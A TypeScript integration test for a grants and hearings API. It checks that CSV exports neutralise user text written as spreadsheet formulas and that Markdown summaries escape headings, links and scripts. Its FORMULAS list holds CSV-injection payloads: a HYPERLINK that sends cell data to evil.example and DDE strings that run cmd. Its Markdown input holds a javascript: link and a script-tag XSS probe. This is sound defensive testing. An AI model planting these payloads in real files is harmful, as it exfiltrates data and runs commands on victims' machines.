import { randomBytes } from 'node:crypto';
import { bearer, people, startApi, type ApiHarness } from '../support/api';
import { WorkflowEngine } from '@samflyt/engine';
import { insertGrantsWorld, roundSettings, scorerNames, uniform, type GrantsWorld } from '../grants/support';
import { fireTimers } from '../support/clock';
import { HOSPITAL, asRecipient, createHearing, loadOrganisations, tokenFor } from '../hearings/support';

jest.setTimeout(120_000);

/** What a spreadsheet would run as a formula (OWASP "CSV Injection"), one per leading character. */
const FORMULAS = [
  '=HYPERLINK("http://evil.example/?x="&A1,"Klikk")',
  '+1+cmd|" /C calc"!A0',
  '-2+3+cmd|" /C calc"!A0',
  '@SUM(1+1)*cmd|" /C calc"!A0',
  '\t=1+1',
  '\r=1+1',
];

/** `text` as a quoted text cell (the API trims a leading tab or CR off some fields; what is left starts with `=`). */
const neutralised = (fields: string[], text: string) =>
  expect(fields.filter((f) => f === `'${text}` || f === `'${text.trim()}`)).not.toEqual([]);

/** Every CSV field of `csv` (RFC 4180: quoted fields may hold the separator, quotes and line breaks). */
function csvFields(csv: string, separator: string): string[] {
  const fields: string[] = [];
  let i = 0;
  while (i <= csv.length) {
    if (csv[i] === '"') {
      let value = '';
      i++;
      for (;;) {
        const q = csv.indexOf('"', i);
        value += csv.slice(i, q);
        i = q + 1;
        if (csv[i] === '"') {
          value += '"';
          i++;
        } else break;
      }
      fields.push(value);
      i++; // the separator or line break after
    } else {
      const end = [csv.indexOf(separator, i), csv.indexOf('\n', i)].filter((x) => x >= 0);
      const stop = end.length ? Math.min(...end) : csv.length;
      fields.push(csv.slice(i, stop));
      i = stop + 1;
    }
  }
  return fields;
}

/**
 * Exports as a secretariat opens them in a spreadsheet or a Markdown viewer: user text that would be a formula is a
 * quoted text cell, and user text in Markdown is no heading, link or HTML.
 */
describe('exports neutralise user text', () => {
  let api: ApiHarness;
  let w: GrantsWorld;
  const tag = randomBytes(3).toString('hex');
  const auth = (token: string) => ({ Authorization: `Bearer ${token}` });

  beforeAll(async () => {
    api = await startApi('export-injection');
    w = await insertGrantsWorld(api.pg, tag);
  });
  afterAll(() => api?.close());

  it('the grant round CSV: titles and AU comments starting with =, +, -, @, tab or CR are text cells', async () => {
    const sek = auth(w.secretariatToken);
    const created = await api
      .http()
      .post('/grant-rounds')
      .set(sek)
      .send(roundSettings({ title: `Tilskudd ${tag}`, opensAt: new Date(Date.now() - 60_000).toISOString() }));
    expect(created.status).toBe(201);
    const round = created.body.id as string;
    await api.http().post(`/grant-rounds/${round}/approve`).set(sek).send({ reference: 'sak 30/24' }).expect(200);
    await api.http().post(`/grant-rounds/${round}/open`).set(sek).expect(200);
    const apps: string[] = [];
    const answers = { beskrivelse: 'Tverrfaglig team', kommuner: 3, tema: 'Samhandling' };
    for (const [i, title] of FORMULAS.entries()) {
      const res = await api
        .http()
        .post(`/grant-rounds/${round}/applications`)
        .set(auth(w.applicants[i].token))
        .send({ title, requestedAmount: 300_000, answers });
      expect(res.status).toBe(201);
      apps.push(res.body.id);
      await api.http().post(`/grant-applications/${res.body.id}/submit`).set(auth(w.applicants[i].token)).expect(200);
      await api.http().post(`/grant-applications/${res.body.id}/formal-check`).set(sek).send({ outcome: 'complete' });
    }
    // The call closes, the round goes to review, and an AU member scores each application with a comment.
    const engine = api.app.get(WorkflowEngine);
    await fireTimers(api.pg, engine, `name = 'closes'`);
    await api.http().post(`/grant-rounds/${round}/review`).set(sek).expect(200);
    await fireTimers(api.pg, engine, 'false');
    for (const [i, comment] of FORMULAS.entries()) {
      await api
        .http()
        .post(`/grant-rounds/${round}/scores`)
        .set(auth(w.token(w.au, scorerNames[0])))
        .send({ applicationId: apps[i], scores: uniform(4), comment })
        .expect(201);
    }
    const csv = await api.http().get(`/grant-rounds/${round}/export.csv`).set(sek).expect(200);
    const fields = csvFields(csv.text, ',');
    for (const text of FORMULAS) {
      // As the title and as the comment (tab and CR trimmed off, both are «'=1+1»).
      expect(fields.filter((f) => f === `'${text}` || f === `'${text.trim()}`).length).toBeGreaterThanOrEqual(2);
    }
    expect(fields.filter((f) => /^[=+\-@\t\r]/.test(f))).toEqual([]);
  });

  describe('the hearing sammendrag', () => {
    let hearingId: string;
    const ANSWER = '# Overskrift\n[lenke](javascript:alert(1))\n<script>alert(1)</script>';

    beforeAll(async () => {
      const orgs = await loadOrganisations(api);
      const deadline = new Date(Date.now() + 100 * 86_400_000).toISOString().slice(0, 10);
      ({ id: hearingId } = await createHearing(api, orgs, { deadline }));
      await api.http().post(`/hearings/${hearingId}/send`).set(bearer(people.secretariat)).expect(200);
      const answering = [HOSPITAL, ...orgs.kommuner.slice(0, FORMULAS.length)];
      for (const [i, name] of answering.entries()) {
        await api
          .http()
          .post('/respond/answer')
          .set(asRecipient(await tokenFor(api, orgs.email[name])))
          .send({ text: i === 0 ? ANSWER : FORMULAS[i - 1], answers: [] })
          .expect(201);
      }
    });

    it('as CSV: answers starting with =, +, -, @, tab or CR are text cells', async () => {
      const csv = await api
        .http()
        .get(`/hearings/${hearingId}/summary.csv`)
        .set(bearer(people.secretariat))
        .expect(200);
      const fields = csvFields(csv.text.replace(/^\ufeff/, ''), ';');
      for (const text of FORMULAS) neutralised(fields, text);
      expect(fields.filter((f) => /^[=+\-@\t\r]/.test(f))).toEqual([]);
    });

    it('as Markdown: a heading, a javascript: link and a script in an answer are escaped text', async () => {
      const md = (await api.http().get(`/hearings/${hearingId}/summary.md`).set(bearer(people.secretariat)).expect(200))
        .text;
      expect(md).toContain('\\# Overskrift\n\\[lenke\\]\\(javascript:alert\\(1\\)\\)\n&lt;script&gt;');
      expect(md).not.toMatch(/^# Overskrift/m);
      expect(md).not.toContain('[lenke](');
      expect(md).not.toContain('<script>');
    });
  });
});
